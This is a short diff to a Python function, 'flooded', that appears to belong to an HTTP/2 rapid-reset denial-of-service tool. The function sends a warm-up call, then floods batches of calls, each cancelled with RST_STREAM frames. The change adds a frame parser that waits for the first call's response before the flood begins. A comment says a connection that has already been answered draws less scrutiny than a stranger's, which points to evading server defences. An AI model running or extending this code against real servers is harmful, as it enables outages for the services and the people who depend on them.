@@ -58,8 +58,7 @@ def flooded(
         first, _ = head(b"DoAction", login)
         told = b"\0" + struct.pack(">I", len(message)) + message
         link.sendall(PREFACE + SETTINGS + call(1, first, told))
-        link.recv(1 << 16)
-        time.sleep(0.2)  # a connection that is known is not looked at as strangers are
+        _answered(link)  # a connection that is known is not looked at as strangers are
         first, again = head(method, login)
         rest = told if whole else b""
         if reads:
@@ -71,6 +70,18 @@ def flooded(
             some = itertools.islice(numbers, AT_ONCE)
             link.sendall(b"".join(call(n, again, rest) + h2_frame(3, 0, n, RESET) * reset for n in some))
             begun += AT_ONCE
+
+
+def _answered(link: socket.socket) -> None:
+    """Read what comes until the first call has its answer, or the connection is cut."""
+    came = bytearray()
+    while some := link.recv(1 << 16):
+        came += some
+        while len(came) >= 9 and len(came) >= (size := 9 + int.from_bytes(came[:3], "big")):
+            kind, flags, stream = came[3], came[4], int.from_bytes(came[5:9], "big")
+            del came[:size]
+            if stream == 1 and (kind == 3 or (kind in (0, 1) and flags & 1)):
+                return
 
 
 def _read(link: socket.socket) -> None:
